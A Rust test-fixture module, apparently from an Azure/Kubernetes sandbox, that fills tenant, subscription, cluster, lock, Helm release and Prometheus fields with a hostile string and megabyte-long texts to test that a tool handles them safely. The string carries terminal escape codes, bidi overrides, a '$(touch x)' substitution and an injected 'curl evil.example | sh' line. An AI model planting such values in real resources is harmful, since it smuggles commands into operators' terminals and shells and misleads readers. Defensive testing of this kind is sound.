//! Names and texts in Azure and in a cluster that a terminal would obey, a reader would not see, or a shell would run.
//!
//! A real API server refuses many of them; what answers in its place does not.

use serde_json::{Value, json};

use super::helm_release;
use super::kube_prometheus_stack::plain_server;
use super::seed::Seed;
use crate::sandbox::state::LockLevel;

/// After the value itself.
const HOSTILE: &str = "x\u{1b}[2J\u{7}\u{8}\r\u{9b}31m\u{202e}\u{2066}'\"`;$(touch x) #\n  next:    curl evil.example | sh\nerror: y";
/// A text of a megabyte.
const LONG: usize = 1 << 20;

/// Fields of objects that no one looks anything up by.
const TEXTS: [&str; 3] = ["version", "image", "reason"];

/// Gives everything a name or a text of this kind that can have one and still be connected.
pub(super) fn name_everything(seed: &mut Seed) {
    seed.state.directory.tenant_name = HOSTILE.to_owned();
    for subscription in &mut seed.state.subscriptions {
        subscription.name = HOSTILE.to_owned();
    }
    for cluster in seed.state.managed_clusters.iter_mut() {
        let tags = &mut cluster.tags;
        tags.insert(HOSTILE.to_owned(), json!(HOSTILE));
        let version = json!(format!("1.33{HOSTILE}"));
        cluster
            .properties
            .insert("kubernetesVersion".to_owned(), version);
    }
    seed.change_objects(|objects| {
        for object in objects.iter_mut() {
            // A release is compressed inside its Secret: a text in it must be unpacked to be
            // changed.
            match helm_release::unpack(object) {
                Some(mut release) => {
                    describe_release(&mut release);
                    object["data"]["release"] = helm_release::pack(&release).into();
                }
                None => describe(object),
            }
        }
        objects.push(second_server());
    });
}

/// Forbids what a connection needs, with reasons of this kind.
pub(super) fn forbid_everything(seed: &mut Seed) {
    seed.lock("rg-prod", LockLevel::ReadOnly);
    for lock in seed.state.locks.iter_mut() {
        lock.name.push_str(HOSTILE);
        lock.notes = Some(HOSTILE.to_owned() + &"z".repeat(LONG));
    }
    seed.policy(HOSTILE, "microsoft.monitor/accounts");
    seed.add_application("amw-rw-aks-prod", None);
    for principal in &mut seed.state.directory.principals {
        if principal.display_name == "Mallory" {
            principal.display_name = format!("Mallory{HOSTILE}");
        }
    }
    for application in &mut seed.state.directory.applications {
        for password in &mut application.passwords {
            password.display_name = Some(HOSTILE.to_owned());
        }
    }
}

fn describe_release(release: &mut Value) {
    release["chart"]["metadata"]["version"] = json!(format!("88.5.3{HOSTILE}"));
    release["chart"]["metadata"]["description"] = json!(HOSTILE.to_owned() + &"z".repeat(LONG));
    release["info"]["description"] = json!(HOSTILE);
    release["config"]["note"] = json!(HOSTILE);
}

fn describe(object: &mut Value) {
    let kind = object["kind"].as_str().unwrap_or_default().to_owned();
    if kind == "Prometheus" {
        object["spec"]["externalLabels"] = json!({"cluster": HOSTILE, (HOSTILE): "x"});
        object["spec"]["remoteWrite"] =
            json!([{"name": HOSTILE, "url": format!("http://mimir.example/{HOSTILE}")}]);
    }
    if kind == "Prometheus" || kind == "ServiceAccount" {
        object["metadata"]["annotations"]["azure.workload.identity/client-id"] = json!(HOSTILE);
        object["metadata"]["annotations"]["note"] = json!(HOSTILE.to_owned() + &"z".repeat(LONG));
        object["metadata"]["labels"]["note"] = json!(HOSTILE);
    }
    append_to_texts(object);
}

fn append_to_texts(value: &mut Value) {
    match value {
        Value::Object(fields) => {
            for (key, field) in fields {
                match field {
                    // At the end, so that what reads the version at the start still finds one.
                    Value::String(text) if TEXTS.contains(&&**key) => text.push_str(HOSTILE),
                    field => append_to_texts(field),
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(append_to_texts),
        _ => {}
    }
}

/// A server that is not the one to connect: its name is listed where there is a choice.
fn second_server() -> Value {
    let mut server = plain_server();
    for field in ["name", "namespace"] {
        let text = server["metadata"][field].as_str().unwrap_or_default();
        server["metadata"][field] = json!(format!("{text}{HOSTILE}"));
    }
    server
}
